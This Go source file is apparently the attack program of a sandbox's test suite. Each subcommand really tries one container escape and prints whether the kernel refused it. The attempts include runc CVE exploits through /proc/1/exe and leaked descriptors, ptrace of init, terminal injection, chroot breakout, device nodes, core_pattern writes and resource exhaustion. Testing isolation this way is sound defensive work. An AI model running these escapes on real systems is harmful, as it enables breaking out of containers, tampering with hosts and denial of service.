// Command attack is the attack suite's program: each subcommand tries one
// way out of a sandbox, for real, and prints one line per step,
//
//	step NAME OUTCOME [DETAIL]
//
// where OUTCOME is "ok" when the step worked and the errno's name (EPERM,
// EACCES …) when the kernel refused it. sandbox/attackkit_test.go builds
// it statically and runs it in a sandbox; the attack tests compare the
// steps with what the defences must make of them.
package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/stockade/stockade/internal/int80"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack NAME [ARGS]")
		os.Exit(2)
	}
	f, ok := attacks[os.Args[1]]
	if !ok {
		fmt.Fprintln(os.Stderr, "attack: unknown attack", os.Args[1])
		os.Exit(2)
	}
	f(os.Args[2:])
}

// report prints the outcome of one step.
func report(name string, err error, detail ...any) {
	outcome := "ok"
	if err != nil {
		var errno syscall.Errno
		if errors.As(err, &errno) {
			outcome = unix.ErrnoName(errno)
		} else {
			outcome = "error"
			detail = append(detail, err)
		}
	}
	line := "step " + name + " " + outcome
	if len(detail) > 0 {
		line += " " + strings.TrimSpace(fmt.Sprintln(detail...))
	}
	fmt.Println(line)
}

func errnoOf(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

var attacks = map[string]func(args []string){
	"procexe":     procExe,
	"fds":         fds,
	"leakdir":     leakDir,
	"leakwrite":   leakWrite,
	"ptrace":      ptrace,
	"pid1":        pid1,
	"caps":        caps,
	"cgroupfs":    cgroupfs,
	"tiocsti":     tiocsti,
	"terminal":    terminal,
	"whoami":      whoami,
	"userns":      userns,
	"sidechannel": sideChannel,
	"chroot":      chroot,
	"mknod":       mknod,
	"mount":       mountAttack,
	"procfiles":   procFiles,
	"kill":        kill,
	"shm":         shm,
	"abstract":    abstract,
	"int80":       i386,
	"killthread":  killThread,
	"write":       write,
	"read":        read,
	"tcp":         tcp,
	"ptys":        ptys,
	"sleep":       func([]string) { time.Sleep(time.Hour) },
	"inotify":     inotifyAll,
	"sigpending":  sigPending,
	"nproc":       nproc,
}

// procExe reaches for the host binary through the init's /proc/1/exe (runc
// CVE-2019-5736).
func procExe([]string) {
	_, err := os.Readlink("/proc/1/exe")
	report("readlink", err)
	for _, flag := range []struct {
		name string
		flag int
	}{{"open-read", unix.O_RDONLY}, {"open-write", unix.O_WRONLY}, {"open-path", unix.O_PATH}} {
		fd, err := unix.Open("/proc/1/exe", flag.flag|unix.O_CLOEXEC, 0)
		report(flag.name, err)
		if err == nil {
			// An O_PATH descriptor reopened for writing, as the CVE did.
			wfd, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			report(flag.name+"-reopen-write", err)
			if err == nil {
				unix.Close(wfd)
			}
			unix.Close(fd)
		}
	}
	_, err = os.ReadFile("/proc/1/mem")
	report("mem", err)
	_, err = os.ReadFile("/proc/1/environ")
	report("environ", err)
	_, err = os.ReadDir("/proc/1/map_files")
	report("map-files", err)
	_, err = os.ReadDir("/proc/1/root/")
	report("root", err)
	_, err = os.ReadDir("/proc/1/cwd/")
	report("cwd", err)
}

// fds lists the descriptors the process holds beyond 0, 1 and 2, and tries
// to leave the root through each directory among them (runc
// CVE-2024-21626).
func fds([]string) {
	var open []string
	for fd := 3; fd < 1024; fd++ {
		if _, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err != nil {
			continue
		}
		open = append(open, strconv.Itoa(fd))
		if unix.Fchdir(fd) == nil {
			cwd, _ := os.Getwd()
			report("fchdir-"+strconv.Itoa(fd), nil, cwd)
		}
	}
	report("open-fds", nil, "["+strings.Join(open, ",")+"]")
	cwd, err := os.Getwd()
	report("cwd", err, cwd)
}

// leakDir reads the file args[1] beneath the directory descriptor args[0]
// that the caller handed the sandbox.
func leakDir(args []string) {
	fd, _ := strconv.Atoi(args[0])
	name := args[1]
	f, err := unix.Openat(fd, name, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	report("openat", err)
	if err == nil {
		unix.Close(f)
	}
	err = unix.Fchdir(fd)
	report("fchdir", err)
	if err == nil {
		_, err = os.ReadFile(name)
		report("read-relative", err)
		_, err = os.ReadFile("/proc/self/fd/" + args[0] + "/" + name)
		report("read-magic-link", err)
	}
	up, err := unix.Openat(fd, "..", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	report("openat-parent", err)
	if err == nil {
		unix.Close(up)
	}
}

// leakWrite creates the file args[1] beneath the directory descriptor
// args[0].
func leakWrite(args []string) {
	fd, _ := strconv.Atoi(args[0])
	f, err := unix.Openat(fd, args[1], unix.O_CREAT|unix.O_WRONLY|unix.O_CLOEXEC, 0o644)
	report("create", err)
	if err == nil {
		unix.Close(f)
	}
}

// ptrace attaches to the init (CVE-2016-9962) and to a sibling process.
func ptrace([]string) {
	report("attach-init", unix.PtraceAttach(1))
	cmd := exec.Command("/proc/self/exe", "sleep")
	if err := cmd.Start(); err != nil {
		report("start-sibling", err)
		return
	}
	defer func() { cmd.Process.Kill(); cmd.Wait() }()
	report("attach-sibling", unix.PtraceAttach(cmd.Process.Pid))
	report("seize-sibling", unix.PtraceSeize(cmd.Process.Pid))
	buf := make([]byte, 8)
	local := []unix.Iovec{{Base: &buf[0], Len: 8}}
	remote := []unix.RemoteIovec{{Base: uintptr(unsafe.Pointer(&buf[0])), Len: 8}}
	_, err := unix.ProcessVMReadv(cmd.Process.Pid, local, remote, 0)
	report("process-vm-readv", err)
	_, err = os.ReadFile(fmt.Sprintf("/proc/%d/mem", cmd.Process.Pid))
	report("proc-mem", err)
}

// pid1 goes for the sandbox's pid 1, meant to be run as root inside with
// every capability and no seccomp filter: its memory, its descriptors, its
// files in /proc and its end.
func pid1([]string) {
	f, err := os.OpenFile("/proc/1/mem", os.O_RDWR, 0)
	report("mem-write", err)
	if err == nil {
		f.Close()
	}
	err = unix.PtraceAttach(1)
	report("attach", err)
	if err == nil {
		unix.PtraceDetach(1)
	}
	err = unix.PtraceSeize(1)
	report("seize", err)
	if err == nil {
		unix.PtraceDetach(1)
	}
	buf := make([]byte, 8)
	local := []unix.Iovec{{Base: &buf[0], Len: 8}}
	remote := []unix.RemoteIovec{{Base: 0x400000, Len: 8}}
	_, err = unix.ProcessVMWritev(1, local, remote, 0)
	report("vm-writev", err)
	_, err = unix.ProcessVMReadv(1, local, remote, 0)
	report("vm-readv", err)
	for _, name := range []string{"environ", "maps", "auxv", "stack", "syscall"} {
		_, err := os.ReadFile("/proc/1/" + name)
		report("read-"+name, err)
	}
	cmdline, err := os.ReadFile("/proc/1/cmdline")
	report("cmdline", err, strings.ReplaceAll(string(cmdline), "\x00", " "))
	_, err = os.Readlink("/proc/1/exe")
	report("exe", err)
	pidfd, err := unix.PidfdOpen(1, 0)
	report("pidfd-open", err)
	if err == nil {
		_, err = unix.PidfdGetfd(pidfd, 3, 0)
		report("pidfd-getfd", err)
	}
	report("kill", unix.Kill(1, unix.SIGKILL))
	time.Sleep(50 * time.Millisecond)
	stat, err := os.ReadFile("/proc/1/stat")
	if err == nil && !strings.HasPrefix(string(stat), "1 (") {
		err = errors.New("not pid 1")
	}
	report("alive", err)
}

// caps prints the capability sets and tries to raise them (CVE-2022-29162).
func caps([]string) {
	status, err := os.ReadFile("/proc/self/status")
	if err != nil {
		report("status", err)
		return
	}
	for _, l := range strings.Split(string(status), "\n") {
		if k, v, ok := strings.Cut(l, ":"); ok && (strings.HasPrefix(k, "Cap") || k == "NoNewPrivs" || k == "Seccomp") {
			report("status-"+k, nil, strings.TrimSpace(v))
		}
	}
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	unix.Capget(&hdr, &data[0])
	data[0].Inheritable |= 1 << unix.CAP_NET_RAW
	data[0].Permitted |= 1 << unix.CAP_NET_RAW
	report("capset-raise", unix.Capset(&hdr, &data[0]))
	report("ambient-raise", unix.Prctl(unix.PR_CAP_AMBIENT, unix.PR_CAP_AMBIENT_RAISE, unix.CAP_NET_RAW, 0, 0))
	report("clear-no-new-privs", unix.Prctl(unix.PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0))
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
	report("raw-socket", err)
	if err == nil {
		unix.Close(s)
	}
	// A capability kept by the config: binding a port below 1024.
	s, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err == nil {
		report("bind-80", unix.Bind(s, &unix.SockaddrInet4{Port: 80, Addr: [4]byte{127, 0, 0, 1}}))
		unix.Close(s)
	}
}

// cgroupfs tries to reach and write the sandbox's control groups
// (CVE-2023-25809).
func cgroupfs([]string) {
	report("mount-cgroup2", unix.Mount("cgroup2", "/tmp", "cgroup2", 0, ""))
	report("mount-cgroup-v1", unix.Mount("cgroup", "/tmp", "cgroup", 0, "memory"))
	_, err := os.Stat("/sys/fs/cgroup")
	report("stat-sys-fs-cgroup", err)
	err = os.WriteFile("/sys/fs/cgroup/cgroup.procs", []byte("1\n"), 0)
	report("write-cgroup-procs", err)
	b, err := os.ReadFile("/proc/self/cgroup")
	report("proc-self-cgroup", err, strings.Join(strings.Fields(string(b)), " "))
}

// tiocsti types into the terminal on standard input (CVE-2017-5226).
func tiocsti([]string) {
	c := byte('!')
	_, _, e := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
	report("tiocsti", errnoOf(e))
	// The high bits of the request are ignored by the kernel; the filter
	// must ignore them too.
	_, _, e = unix.Syscall(unix.SYS_IOCTL, 0, 1<<32|unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
	report("tiocsti-high-bits", errnoOf(e))
	sub := byte(0) // TIOCL_PASTESEL is 3; any subcode will do
	_, _, e = unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCLINUX, uintptr(unsafe.Pointer(&sub)))
	report("tioclinux", errnoOf(e))
	sid, _ := unix.Getsid(0)
	report("own-session", nil, sid == os.Getpid())
	_, err := unix.IoctlGetInt(0, unix.TIOCGPGRP)
	report("controlling-tty", err)
}

// terminal changes the terminal on standard input, a terminal of the
// caller's, in every way that would outlast the sandbox: termios, line
// discipline, window size, controlling session, exclusive mode, flow.
// Reading its state must keep working.
func terminal([]string) {
	ioctl := func(req uint, arg unsafe.Pointer) error {
		_, _, e := unix.Syscall(unix.SYS_IOCTL, 0, uintptr(req), uintptr(arg))
		return errnoOf(e)
	}
	var buf [64]byte // room for termios, termio and termios2
	err := ioctl(unix.TCGETS, unsafe.Pointer(&buf))
	report("tcgets", err)
	var ws unix.Winsize
	report("tiocgwinsz", ioctl(unix.TIOCGWINSZ, unsafe.Pointer(&ws)))
	// Echo and canonical mode off, as a program that takes the terminal
	// over would, and not back on.
	lflag := (*uint32)(unsafe.Pointer(&buf[12]))
	*lflag &^= unix.ECHO | unix.ICANON
	for _, r := range []struct {
		name string
		req  uint
	}{{"tcsets", unix.TCSETS}, {"tcsetsw", unix.TCSETSW}, {"tcsetsf", unix.TCSETSF}} {
		report(r.name, ioctl(r.req, unsafe.Pointer(&buf)))
	}
	var buf2 [64]byte
	if err := ioctl(unix.TCGETS2, unsafe.Pointer(&buf2)); err == nil {
		*(*uint32)(unsafe.Pointer(&buf2[12])) &^= unix.ECHO | unix.ICANON
	}
	report("tcsets2", ioctl(unix.TCSETS2, unsafe.Pointer(&buf2)))
	report("tcsetsw2", ioctl(unix.TCSETSW2, unsafe.Pointer(&buf2)))
	report("tcsetsf2", ioctl(unix.TCSETSF2, unsafe.Pointer(&buf2)))
	// struct termio: four 16-bit flags, the line, the characters.
	var old [32]byte
	if err := ioctl(unix.TCGETA, unsafe.Pointer(&old)); err == nil {
		*(*uint16)(unsafe.Pointer(&old[6])) &^= unix.ECHO | unix.ICANON
	}
	report("tcseta", ioctl(unix.TCSETA, unsafe.Pointer(&old)))
	one := int32(1)
	report("tiocssoftcar", ioctl(unix.TIOCSSOFTCAR, unsafe.Pointer(&one)))
	report("tiocswinsz", ioctl(unix.TIOCSWINSZ, unsafe.Pointer(&unix.Winsize{Row: 3, Col: 7})))
	_, _, e := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSCTTY, 0)
	report("tiocsctty", errnoOf(e))
	pgrp := int32(unix.Getpgrp())
	report("tiocspgrp", ioctl(unix.TIOCSPGRP, unsafe.Pointer(&pgrp)))
	report("tiocexcl", ioctl(unix.TIOCEXCL, nil))
	report("tioccons", ioctl(unix.TIOCCONS, nil))
	// TCOOFF stops the terminal's output until someone sends TCOON.
	_, _, e = unix.Syscall(unix.SYS_IOCTL, 0, unix.TCXONC, unix.TCOOFF)
	report("tcxonc", errnoOf(e))
	// N_NULL (27): the terminal then discards everything.
	nnull := int32(27)
	report("tiocsetd", ioctl(unix.TIOCSETD, unsafe.Pointer(&nnull)))
	report("tiocsetd-high-bits", errnoOf(func() syscall.Errno {
		_, _, e := unix.Syscall(unix.SYS_IOCTL, 0, 1<<32|unix.TIOCSETD, uintptr(unsafe.Pointer(&nnull)))
		return e
	}()))
	_, _, e = unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCVHANGUP, 0)
	report("tiocvhangup", errnoOf(e))
}

// whoami prints the ids the process runs as (run from a setuid copy).
func whoami([]string) {
	report("ids", nil, fmt.Sprintf("uid=%d euid=%d gid=%d egid=%d", os.Getuid(), os.Geteuid(), os.Getgid(), os.Getegid()))
}

// userns tries to make nested namespaces, the kernel surface behind them.
func userns([]string) {
	runtime.LockOSThread()
	report("unshare-user", unix.Unshare(unix.CLONE_NEWUSER))
	report("unshare-mount", unix.Unshare(unix.CLONE_NEWNS))
	report("unshare-net", unix.Unshare(unix.CLONE_NEWNET))
	cmd := exec.Command("/proc/self/exe", "whoami")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER}
	report("clone-newuser", cmd.Run())
	// clone3 hides its flags behind a pointer: the filter refuses it
	// outright, with ENOSYS so that libraries fall back to clone.
	// struct clone_args up to exit_signal, the rest zero.
	var args [11]uint64
	args[0], args[4] = unix.CLONE_NEWUSER, uint64(unix.SIGCHLD)
	pid, _, e := unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&args)), unsafe.Sizeof(args), 0)
	if e == 0 && pid == 0 {
		unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	report("clone3-newuser", errnoOf(e))
	fd, err := unix.Open("/proc/self/ns/user", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		report("setns", unix.Setns(fd, unix.CLONE_NEWUSER))
		unix.Close(fd)
	}
}

// sideChannel tries the kernel objects that namespaces do not cover.
func sideChannel([]string) {
	desc := []byte("stockade-attack\x00")
	typ := []byte("user\x00")
	_, _, e := unix.Syscall6(unix.SYS_ADD_KEY, uintptr(unsafe.Pointer(&typ[0])), uintptr(unsafe.Pointer(&desc[0])), 0, 0, uintptr(0xfffffffd), 0)
	report("add_key", errnoOf(e))
	_, _, e = unix.Syscall6(unix.SYS_REQUEST_KEY, uintptr(unsafe.Pointer(&typ[0])), uintptr(unsafe.Pointer(&desc[0])), 0, 0, 0, 0)
	report("request_key", errnoOf(e))
	_, _, e = unix.Syscall(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, uintptr(0xfffffffd), 0)
	report("keyctl", errnoOf(e))
	s, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	report("vsock", err)
	if err == nil {
		unix.Close(s)
	}
	var params [120]byte
	_, _, e = unix.Syscall(unix.SYS_IO_URING_SETUP, 8, uintptr(unsafe.Pointer(&params[0])), 0)
	report("io_uring_setup", errnoOf(e))
	_, _, e = unix.Syscall(unix.SYS_USERFAULTFD, 0, 0, 0)
	report("userfaultfd", errnoOf(e))
	_, _, e = unix.Syscall(unix.SYS_BPF, 0, 0, 0)
	report("bpf", errnoOf(e))
	var attr [128]byte
	_, _, e = unix.Syscall6(unix.SYS_PERF_EVENT_OPEN, uintptr(unsafe.Pointer(&attr[0])), 0, ^uintptr(0), ^uintptr(0), 0, 0)
	report("perf_event_open", errnoOf(e))
	_, _, e = unix.Syscall6(unix.SYS_KEXEC_LOAD, 0, 0, 0, 0, 0, 0)
	report("kexec_load", errnoOf(e))
}

// chroot is the classic escape: keep a descriptor of the root, chroot into
// a subdirectory, fchdir back out and walk up with "..". args[0] is a host
// path that must stay out of sight.
func chroot(args []string) {
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		report("open-root", err)
		return
	}
	os.MkdirAll("/tmp/jail", 0o755)
	err = unix.Chroot("/tmp/jail")
	report("chroot", err)
	if err != nil {
		return
	}
	report("fchdir", unix.Fchdir(root))
	for range 64 {
		unix.Chdir("..")
	}
	report("chroot-dot", unix.Chroot("."))
	_, err = os.Stat(args[0])
	report("stat-host-path", err)
	entries, _ := os.ReadDir("/")
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	report("root-entries", nil, strings.Join(names, ","))
}

// mknod makes device nodes that would open the host's disks.
func mknod([]string) {
	report("mknod-block", unix.Mknod("/tmp/sda", unix.S_IFBLK|0o600, int(unix.Mkdev(8, 0))))
	report("mknod-char", unix.Mknod("/tmp/mem", unix.S_IFCHR|0o600, int(unix.Mkdev(1, 1))))
	report("mknod-dev", unix.Mknod("/dev/sda", unix.S_IFBLK|0o600, int(unix.Mkdev(8, 0))))
}

// mountAttack tries every way of mounting.
func mountAttack([]string) {
	report("mount-tmpfs", unix.Mount("tmpfs", "/tmp", "tmpfs", 0, ""))
	report("bind-remount", unix.Mount("/", "/", "", unix.MS_BIND|unix.MS_REMOUNT, ""))
	report("umount-proc", unix.Unmount("/proc/kcore", unix.MNT_DETACH))
	_, err := unix.Fsopen("tmpfs", 0)
	report("fsopen", err)
	_, err = unix.OpenTree(unix.AT_FDCWD, "/tmp", unix.OPEN_TREE_CLONE)
	report("open_tree", err)
	report("pivot_root", unix.PivotRoot("/tmp", "/tmp"))
}

// procFiles reads the host-revealing files of /proc and writes the ones
// that change the host kernel.
func procFiles([]string) {
	for _, p := range []string{"/proc/kcore", "/proc/keys", "/proc/kallsyms", "/proc/timer_list", "/proc/sched_debug"} {
		b, err := readSome(p)
		report("read-"+strings.TrimPrefix(p, "/proc/"), err, len(b))
	}
	report("write-core_pattern", writeFile("/proc/sys/kernel/core_pattern", "|/tmp/pwn"))
	report("write-sysrq-trigger", writeFile("/proc/sysrq-trigger", "h"))
	report("write-hostname", writeFile("/proc/sys/kernel/hostname", "pwned"))
	_, err := os.Stat("/sys/kernel")
	report("stat-sys", err)
}

func readSome(p string) ([]byte, error) {
	f, err := os.Open(p)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	buf := make([]byte, 4096)
	n, err := f.Read(buf)
	if n == 0 && err != nil && err.Error() != "EOF" {
		return nil, err
	}
	return buf[:n], nil
}

func writeFile(p, data string) error {
	f, err := os.OpenFile(p, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.WriteString(data)
	return err
}

// kill signals a pid of the host, given in args[0].
func kill(args []string) {
	pid, _ := strconv.Atoi(args[0])
	report("kill-0", unix.Kill(pid, 0))
	report("kill-term", unix.Kill(pid, unix.SIGTERM))
	fd, err := unix.PidfdOpen(pid, 0)
	report("pidfd_open", err)
	if err == nil {
		unix.Close(fd)
	}
}

// shm writes args[1] into /dev/shm/args[0] ("put"), or lists /dev/shm and
// reads that file ("get").
func shm(args []string) {
	name := "/dev/shm/" + args[1]
	switch args[0] {
	case "put":
		report("put", os.WriteFile(name, []byte("secret"), 0o644))
		time.Sleep(time.Hour)
	case "get":
		entries, err := os.ReadDir("/dev/shm")
		report("list", err, len(entries))
		_, err = os.ReadFile(name)
		report("get", err)
	}
}

// abstract listens on the abstract unix socket @args[1] ("listen") or
// connects to it ("connect").
func abstract(args []string) {
	addr := &net.UnixAddr{Name: "@" + args[1], Net: "unix"}
	switch args[0] {
	case "listen":
		l, err := net.ListenUnix("unix", addr)
		report("listen", err)
		if err == nil {
			defer l.Close()
			time.Sleep(time.Hour)
		}
	case "connect":
		c, err := net.DialUnix("unix", nil, addr)
		report("connect", err)
		if err == nil {
			c.Close()
		}
	}
}

// i386 makes a system call through the i386 ABI, which the filter kills.
func i386([]string) {
	if !int80.Available {
		report("int80", errors.New("not amd64"))
		return
	}
	report("start", nil)
	int80.Syscall(20) // getpid on i386
	report("int80", nil, "survived")
}

// killThread makes the system call args[0] names (getppid) from a thread
// other than the main one, which a kill-process policy must answer by
// killing the whole process, not one thread of it.
func killThread([]string) {
	report("start", nil)
	done := make(chan struct{})
	go func() {
		runtime.LockOSThread()
		unix.Getppid()
		close(done)
	}()
	<-done
	time.Sleep(200 * time.Millisecond)
	report("survived", nil)
}

// write creates the file args[0] and reads back args[1] if given.
func write(args []string) {
	for _, p := range args {
		err := os.WriteFile(p, []byte("attack\n"), 0o644)
		report("write-"+p, err)
	}
}

// read opens each of args for reading and reads a little.
func read(args []string) {
	for _, p := range args {
		b, err := readSome(p)
		report("read-"+p, err, len(b))
	}
}

// tcp binds the TCP port args[0] on loopback and connects to args[1].
func tcp(args []string) {
	port, _ := strconv.Atoi(args[0])
	l, err := net.Listen("tcp", "127.0.0.1:"+strconv.Itoa(port))
	report("bind-"+args[0], err)
	if err == nil {
		defer l.Close()
	}
	c, err := net.DialTimeout("tcp", "127.0.0.1:"+args[1], 2*time.Second)
	report("connect-"+args[1], err)
	if err == nil {
		c.Close()
	}
}

// ptys opens /dev/ptmx until it fails, or ARGS[0] times (default 4096),
// keeping every pty, to take as many of the host's ptys as it can. The
// step's detail is how many it got.
func ptys(args []string) {
	most := 4096
	if len(args) > 0 {
		n, err := strconv.Atoi(args[0])
		if err != nil {
			report("args", err)
			return
		}
		most = n
	}
	var err error
	n := 0
	for ; n < most; n++ {
		var fd int
		if fd, err = unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0); err != nil {
			break
		}
		defer unix.Close(fd)
	}
	report("ptmx", err, n)
}

// hold keeps what an attack took until its standard input ends, so that
// the test can look at the host meanwhile: it prints "step hold ok" first.
func hold() {
	report("hold", nil)
	os.Stdin.Read(make([]byte, 1))
}

// inotifyAll takes inotify instances until the kernel refuses one (at
// most 100000), and holds them: each counts against the user's
// max_inotify_instances in every user namespace up to the host's.
func inotifyAll([]string) {
	var err error
	n := 0
	for ; n < 100000; n++ {
		if _, err = unix.InotifyInit1(unix.IN_CLOEXEC); err != nil {
			break
		}
	}
	report("inotify", err, n)
	hold()
}

// sigPending queues real-time signals on its own thread, which blocks
// them, until the kernel refuses one (at most 1000000), and holds them:
// each counts against RLIMIT_SIGPENDING of the user in every user
// namespace up to the host's.
func sigPending([]string) {
	runtime.LockOSThread()
	const sig = 40
	set := uint64(1) << (sig - 1)
	if _, _, e := unix.RawSyscall6(unix.SYS_RT_SIGPROCMASK, unix.SIG_BLOCK, uintptr(unsafe.Pointer(&set)), 0, 8, 0, 0); e != 0 {
		report("block", e)
		return
	}
	pid, tid := unix.Getpid(), unix.Gettid()
	var info [128]byte
	*(*int32)(unsafe.Pointer(&info[0])) = sig
	*(*int32)(unsafe.Pointer(&info[8])) = -1 // SI_QUEUE
	var err error
	n := 0
	for ; n < 1000000; n++ {
		_, _, e := unix.RawSyscall6(unix.SYS_RT_TGSIGQUEUEINFO, uintptr(pid), uintptr(tid), sig, uintptr(unsafe.Pointer(&info[0])), 0, 0)
		if e != 0 {
			err = e
			break
		}
	}
	report("sigqueue", err, n)
	hold()
}

// nproc starts args[0] sleep 1000 as long as the kernel lets it (at most
// 10000), and holds them: each counts against RLIMIT_NPROC of the user.
func nproc(args []string) {
	var err error
	var pids []int
	for len(pids) < 10000 {
		var pid int
		if pid, err = syscall.ForkExec(args[0], []string{args[0], "sleep", "1000"}, nil); err != nil {
			break
		}
		pids = append(pids, pid)
	}
	report("fork", err, len(pids))
	hold()
	for _, pid := range pids {
		unix.Kill(pid, unix.SIGKILL)
	}
}
